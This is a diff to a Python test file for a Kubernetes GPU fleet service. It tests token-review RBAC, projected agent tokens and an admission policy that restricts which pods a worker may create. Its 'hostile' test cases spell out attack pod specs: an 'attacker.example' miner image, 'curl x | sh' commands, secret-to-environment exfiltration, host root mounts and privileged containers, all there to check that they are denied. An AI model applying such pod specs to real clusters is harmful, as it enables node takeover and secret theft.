@@ -11,6 +11,7 @@ import json
 import re
 import ssl
 import threading
+import uuid
 from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 from urllib.parse import parse_qs, urlparse
 
@@ -24,6 +25,8 @@ from cryptography.x509.oid import NameOID
 from endpoints.fleet.providers import get_provider, k8s_api, kubernetes
 from endpoints.fleet.providers.base import LaunchSpec, PoolSpec, ProviderError, ProviderUnreachable
 from endpoints.fleet.providers.k8s_placeholder import placeholder_pod
+from gpu_agent.runtime import control_plane as control_plane_client
+from tests.infra import cel
 from tests.infra.conftest import render, run_tool, tool
 
 SA_TOKEN = "service-account-token-0123456789"
@@ -95,16 +98,32 @@ def test_the_node_pools_overlay_lets_the_worker_manage_pods_and_pooled_agents_cl
     assert role["rules"] == [{"apiGroups": [""], "resources": ["pods"], "verbs": ["create", "delete", "get", "list"]}]
     binding = rendered.get("RoleBinding", "inferplane-node-pools")
     assert binding["subjects"] == [{"kind": "ServiceAccount", "name": "inferplane-node-pools", "namespace": "inferplane"}]
-    assert not rendered.all("ClusterRole") and not rendered.all("ClusterRoleBinding")
+    # The web pods may review tokens (a registering agent's pod token), and do nothing else with the API.
+    [cluster_role] = rendered.all("ClusterRole")
+    assert cluster_role["metadata"]["name"] == "inferplane-registration-review" and cluster_role["rules"] == [
+        {"apiGroups": ["authentication.k8s.io"], "resources": ["tokenreviews"], "verbs": ["create"]}]
+    [cluster_binding] = rendered.all("ClusterRoleBinding")
+    assert cluster_binding["roleRef"]["name"] == "inferplane-registration-review" and cluster_binding["subjects"] == [
+        {"kind": "ServiceAccount", "name": "inferplane-registration-review", "namespace": "inferplane"}]
 
     worker = rendered.get("Deployment", "inferplane-worker")["spec"]["template"]["spec"]
     assert worker["serviceAccountName"] == "inferplane-node-pools" and worker["automountServiceAccountToken"] is True
     web = rendered.get("Deployment", "inferplane-web")["spec"]["template"]["spec"]
-    assert web["automountServiceAccountToken"] is False and "serviceAccountName" not in web
+    assert web["serviceAccountName"] == "inferplane-registration-review" and web["automountServiceAccountToken"] is True
 
     agent = rendered.get("DaemonSet", "inferplane-agent")["spec"]["template"]["spec"]
     [container] = agent["containers"]
     assert agent["runtimeClassName"] == "nvidia"
+    # The agent registers with its pod's projected token for our audience (what `reviewed_agent_pod` checks), at the
+    # path it reads, as the service account the review must name; no API token of it is mounted.
+    assert agent["serviceAccountName"] == kubernetes.AGENT_SERVICE_ACCOUNT and agent["automountServiceAccountToken"] is False
+    assert rendered.get("ServiceAccount", kubernetes.AGENT_SERVICE_ACCOUNT)["automountServiceAccountToken"] is False
+    [volume] = [volume for volume in agent["volumes"] if volume["name"] == "registration-token"]
+    [source] = volume["projected"]["sources"]
+    assert source["serviceAccountToken"]["audience"] == kubernetes.AGENT_TOKEN_AUDIENCE
+    assert source["serviceAccountToken"]["expirationSeconds"] <= 3600
+    [mount] = [mount for mount in container["volumeMounts"] if mount["name"] == "registration-token"]
+    assert f"{mount['mountPath']}/{source['serviceAccountToken']['path']}" == str(control_plane_client.POD_TOKEN_FILE)
     assert "nvidia.com/gpu" not in container["resources"]["requests"] and "nvidia.com/gpu" not in container["resources"]["limits"]
     env = {variable["name"]: variable for variable in container["env"]}
     assert env["NVIDIA_VISIBLE_DEVICES"]["value"] == "all"
@@ -121,6 +140,113 @@ def test_the_node_pools_overlay_lets_the_worker_manage_pods_and_pooled_agents_cl
         key: AGENT_LABELS[key] for key in ("app.kubernetes.io/component", "app.kubernetes.io/name")}
 
 
+POLICY = "inferplane-node-pools-placeholders"
+
+
+def _denied(rendered, username: str, operation: str, pod: dict) -> list[str]:
+    """What the rendered ValidatingAdmissionPolicy answers a request of `username` to `operation` (CREATE, DELETE)
+    `pod`: the messages of the rules it breaks (a rule whose evaluation errs denies, `failurePolicy: Fail`); [] when it
+    is admitted or the policy does not match it. Evaluated as the API server would, on the pod after its defaulting
+    (the service-account admission names the `default` account)."""
+    policy, binding = rendered.get("ValidatingAdmissionPolicy", POLICY)["spec"], rendered.get(
+        "ValidatingAdmissionPolicyBinding", POLICY)["spec"]
+    assert binding["policyName"] == POLICY and binding["validationActions"] == ["Deny"]
+    assert policy["failurePolicy"] == "Fail" and binding["paramRef"]["parameterNotFoundAction"] == "Deny"
+    params = rendered.get("ConfigMap", binding["paramRef"]["name"])
+    if not any("pods" in rule["resources"] and operation in rule["operations"] and rule["apiGroups"] == [""]
+               for rule in policy["matchConstraints"]["resourceRules"]):
+        return []
+    pod = pod | {"spec": {"serviceAccountName": "default"} | pod["spec"]}
+    env = {"request": {"operation": operation, "userInfo": {"username": username}, "namespace": "inferplane"},
+           "object": pod if operation == "CREATE" else None, "oldObject": pod if operation == "DELETE" else None,
+           "params": params}
+    if not all(cel.evaluate(condition["expression"], env) for condition in policy["matchConditions"]):
+        return []
+    env["variables"] = {}
+    for variable in policy.get("variables", []):
+        env["variables"][variable["name"]] = cel.evaluate(variable["expression"], env)
+    broken = []
+    for rule in policy["validations"]:
+        try:
+            allowed = cel.evaluate(rule["expression"], env) is True
+        except cel.CelError:
+            allowed = False
+        if not allowed:
+            broken.append(rule["message"])
+    return broken
+
+
+def test_the_node_pools_worker_may_create_and_delete_only_the_placeholders_the_pools_launch():
+    """A stolen worker credential may create pods in its namespace (RBAC cannot say which): the admission policy
+    admits only the placeholder the provider builds, with the image the worker is set to use, and no pod that differs
+    from it in what matters (image, command, environment, mounts, privileges, host namespaces, node, runtime, service
+    account); it lets the worker delete placeholders only. Other users are not its business."""
+    rendered = render("production-node-pools")
+    binding = rendered.get("RoleBinding", "inferplane-node-pools")
+    [subject] = binding["subjects"]
+    worker = f"system:serviceaccount:{subject['namespace']}:{subject['name']}"
+    image = rendered.config_map("inferplane-config")["data"]["INFERPLANE_K8S_PLACEHOLDER_IMAGE"]
+    role = rendered.get("Role", "inferplane-node-pools")
+    [rule] = role["rules"]
+    # Every pod write RBAC grants the worker is one the policy judges.
+    writes = {verb.upper() for verb in rule["verbs"]} - {"GET", "LIST", "WATCH"}
+    assert writes == {"CREATE", "DELETE"} and all(_denied(rendered, worker, operation, {"metadata": {}, "spec": {}})
+                                                   for operation in writes)
+
+    placeholder = placeholder_pod(POOL, _spec(zone="us-east-1a"), namespace="inferplane", image=image,
+                                  fleet_id="prod.eu-1")
+    assert _denied(rendered, worker, "CREATE", placeholder) == []
+    assert _denied(rendered, worker, "DELETE", placeholder) == []
+    no_gpus = placeholder_pod(PoolSpec(id=6, name="cpu", gpu_type="cpu", gpus_per_node=0, gpu_memory_mb=1),
+                              _spec(), namespace="inferplane", image=image)
+    assert _denied(rendered, worker, "CREATE", no_gpus) == []
+
+    def changed(change) -> dict:
+        pod = json.loads(json.dumps(placeholder))
+        change(pod["spec"], pod["spec"]["containers"][0], pod["metadata"])
+        return pod
+
+    hostile = {
+        "another image": lambda spec, container, meta: container.update(image="attacker.example/miner:1"),
+        "another command": lambda spec, container, meta: container.update(command=["sh", "-c", "curl x | sh"]),
+        "arguments": lambda spec, container, meta: container.update(args=["-c", "curl x | sh"]),
+        "a secret in its environment": lambda spec, container, meta: container.update(env=[{
+            "name": "T", "valueFrom": {"secretKeyRef": {"name": "inferplane", "key": "DATABASE_URL"}}}]),
+        "every secret key as its environment": lambda spec, container, meta: container.update(
+            envFrom=[{"secretRef": {"name": "inferplane"}}]),
+        "the host's disk": lambda spec, container, meta: (
+            spec.update(volumes=[{"name": "root", "hostPath": {"path": "/"}}]),
+            container.update(volumeMounts=[{"name": "root", "mountPath": "/host"}])),
+        "a privileged container": lambda spec, container, meta: container["securityContext"].update(privileged=True),
+        "an added capability": lambda spec, container, meta: container["securityContext"].update(
+            capabilities={"add": ["SYS_ADMIN"]}),
+        "privilege escalation": lambda spec, container, meta: container["securityContext"].update(
+            allowPrivilegeEscalation=True),
+        "root": lambda spec, container, meta: (spec["securityContext"].update(runAsNonRoot=False),),
+        "the host's network": lambda spec, container, meta: spec.update(hostNetwork=True),
+        "the host's processes": lambda spec, container, meta: spec.update(hostPID=True),
+        "a node of its choosing": lambda spec, container, meta: spec.update(nodeName="ip-10-0-3-17.ec2.internal"),
+        "the GPU runtime": lambda spec, container, meta: spec.update(runtimeClassName="nvidia"),
+        "the worker's own account": lambda spec, container, meta: spec.update(
+            serviceAccountName="inferplane-node-pools", automountServiceAccountToken=True),
+        "a second container": lambda spec, container, meta: spec["containers"].append(dict(container, name="x")),
+        "an init container": lambda spec, container, meta: spec.update(initContainers=[dict(container, name="x")]),
+        "no placeholder labels": lambda spec, container, meta: meta.update(labels={"app": "miner"}),
+    }
+    for what, change in hostile.items():
+        assert _denied(rendered, worker, "CREATE", changed(change)), f"admitted a placeholder with {what}"
+    web_pod = {"metadata": {"name": "inferplane-web-7d9f", "labels": {"app.kubernetes.io/component": "web"}},
+               "spec": {"containers": [{"name": "web", "image": "inferplane/controlplane"}]}}
+    assert _denied(rendered, worker, "DELETE", web_pod) == [
+        "only a node pool's capacity placeholder (its role, pool and launch labels)"]
+    # Anyone else (an operator, another controller) is judged by their own rights, not by this policy.
+    assert _denied(rendered, "system:serviceaccount:kube-system:daemon-set-controller", "CREATE", web_pod) == []
+    assert _denied(rendered, "system:serviceaccount:inferplane:inferplane-registration-review", "CREATE",
+                   changed(hostile["another image"])) == []
+    # The policy's image is the one the worker puts on placeholders (one setting in each place: they must agree).
+    assert rendered.get("ConfigMap", "inferplane-placeholder-policy")["data"]["image"] == image
+
+
 class _ApiServer:
     """Pods of one namespace, as much of the API server as the provider uses, over HTTPS."""
 
@@ -130,6 +256,9 @@ class _ApiServer:
         self.time_out_creates = False
         self.page_size = 0  # pods per page of a list (0: the client's limit), as an API server may answer fewer
         self.fail_continued_pages = False  # every page after the first answers 410: the continue token expired
+        # Projected service-account tokens the API server issued: token -> (pod name, pod uid, audiences).
+        self.pod_tokens: dict[str, tuple[str, str, tuple[str, ...]]] = {}
+        self.reviews_unreachable = False
         server = self
 
         class Handler(BaseHTTPRequestHandler):
@@ -160,7 +289,34 @@ class _ApiServer:
                     f'cannot {verb} resource "pods" in the namespace "{namespace}"')})
                 return True
 
+            def _review(self):
+                """A TokenReview, as the API server answers it for a pod's projected service-account token."""
+                review = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
+                if server.reviews_unreachable:
+                    return self._answer(503, {"kind": "Status", "reason": "ServiceUnavailable", "message": "etcd"})
+                pod_name, pod_uid, audiences = server.pod_tokens.get(review["spec"]["token"], ("", "", ()))
+                pod = server.pods.get(pod_name)
+                wanted = set(review["spec"].get("audiences") or ["https://kubernetes.default.svc"])
+                if pod is None or pod["metadata"].get("uid") != pod_uid or not wanted & set(audiences):
+                    error = "invalid bearer token" if pod is not None or not pod_name else (
+                        f'pods "{pod_name}" not found')
+                    return self._answer(201, {"kind": "TokenReview", "status": {"authenticated": False,
+                                                                                "error": error}})
+                namespace, account = pod["metadata"]["namespace"], pod["spec"].get("serviceAccountName", "default")
+                node = pod["spec"].get("nodeName", "")
+                extra = {"authentication.kubernetes.io/pod-name": [pod_name],
+                         "authentication.kubernetes.io/pod-uid": [pod_uid],
+                         **({"authentication.kubernetes.io/node-name": [node]} if node else {})}
+                self._answer(201, {"kind": "TokenReview", "status": {
+                    "authenticated": True, "audiences": sorted(wanted & set(audiences)),
+                    "user": {"username": f"system:serviceaccount:{namespace}:{account}", "uid": str(uuid.uuid4()),
+                             "groups": ["system:serviceaccounts", f"system:serviceaccounts:{namespace}"],
+                             "extra": extra}}})
+
             def do_POST(self):
+                if self.path == "/apis/authentication.k8s.io/v1/tokenreviews":
+                    server.requests.append((self.command, self.path, self.headers.get("Authorization", "")))
+                    return self._review()
                 namespace, _, _ = self._route()
                 if self._forbidden(namespace):
                     return
@@ -212,6 +368,12 @@ class _ApiServer:
         self.port = self.httpd.server_address[1]
         self.thread = threading.Thread(target=self.httpd.serve_forever, kwargs={"poll_interval": 0.02}, daemon=True)
         self.thread.start()
+
+    def issue_pod_token(self, pod_name: str, audience: str = kubernetes.AGENT_TOKEN_AUDIENCE) -> str:
+        """A projected service-account token of the pod (`serviceAccountToken` volume source, this audience)."""
+        token = f"eyJhbGciOiJSUzI1NiJ9.{uuid.uuid4().hex}.sig"
+        self.pod_tokens[token] = (pod_name, self.pods[pod_name]["metadata"]["uid"], (audience,))
+        return token
 
     def stop(self):
         self.httpd.shutdown()
@@ -307,8 +469,8 @@ AGENT_LABELS = {"app.kubernetes.io/component": "agent", "app.kubernetes.io/name"
 def _agent_pod(name: str, node_name: str, ip: str, labels: dict | None = None, **metadata) -> dict:
     """A pod of the agent DaemonSet as the API server lists it (infra/k8s/base/agent-daemonset.yaml)."""
     return {"metadata": {"name": name, "namespace": "inferplane", "labels": AGENT_LABELS if labels is None else labels,
-                         **metadata},
-            "spec": {"nodeName": node_name}, "status": {"phase": "Running", "podIP": ip, "podIPs": [{"ip": ip}]}}
+                         "uid": str(uuid.uuid4()), **metadata},
+            "spec": {"nodeName": node_name, "serviceAccountName": "inferplane-agent"}, "status": {"phase": "Running", "podIP": ip, "podIPs": [{"ip": ip}]}}
 
 
 def test_list_reports_the_ip_of_the_agent_pod_on_a_placeholders_node_and_none_it_cannot_tell(api_server):
